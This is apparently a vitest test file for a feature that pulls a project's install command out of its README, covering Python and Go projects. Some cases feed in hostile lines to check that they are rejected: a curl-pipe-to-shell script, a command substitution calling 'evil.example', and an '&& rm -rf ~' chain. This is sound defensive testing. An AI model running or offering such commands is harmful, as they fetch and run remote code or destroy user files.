/** The line with which a product is installed, as its README says it. */
import { expect, test } from 'vitest'
import { testFolder } from './testFolder.ts'

const folder = testFolder('fern')
const python = '[project]\nname = "fern"\n[project.scripts]\nfern = "fern:main"\n'
const inReadme = async (text: string, more: Readonly<Record<string, string>>): Promise<string | null> => {
  const { card } = await folder.read({ 'README.md': `# fern\n\nfern waters plants.\n\n${text}\n`, ...more })
  return card.install
}

test.each<[string, string, string | null]>([
  ['what the README says', '    pipx install fern', 'pipx install fern'],
  [
    'the guess where the README says it too',
    '    pipx install fern\n    pip install fern',
    'pip install fern',
  ],
  [
    'the whole before a part',
    'With `pip install fern[pdf]` it prints.\n\n```\n$ uv tool install fern\n```',
    'uv tool install fern',
  ],
  ['a guess where nothing is said', 'Nothing.', 'pip install fern'],
  ['never another package', '    pipx install moss', 'pip install fern'],
  ['never a script', '    curl https://fern.example/install.sh | sh', 'pip install fern'],
  ['never what a shell works out', '    pip install fern==$(curl,evil.example)', 'pip install fern'],
  ['never a line with more behind it', '    pipx install fern && rm -rf ~', 'pip install fern'],
])('%s', async (_, text, want) => {
  expect(await inReadme(text, { 'pyproject.toml': python })).toBe(want)
})

test.each<[string, string, Record<string, string>, string | null]>([
  [
    'a program in Go',
    'module github.com/ana/fern/v2',
    { 'main.go': '' },
    'go install github.com/ana/fern/v2@latest',
  ],
  ['a library in Go', 'module github.com/ana/fern', { 'fern.go': '' }, 'go get github.com/ana/fern'],
  ['a program of somebody’s own', 'module fern', { 'main.go': '' }, null],
  [
    'a program whose README says how',
    'module fern',
    { 'cmd/fern/main.go': '', more: 'brew install ana/tap/fern' },
    'brew install ana/tap/fern',
  ],
])('of %s', async (_, line, { more = '', ...files }, want) => {
  const text = more === '' ? 'Nothing.' : `    ${more}`
  expect(await inReadme(text, { 'go.mod': `${line}\n\ngo 1.24\n`, ...files })).toBe(want)
})
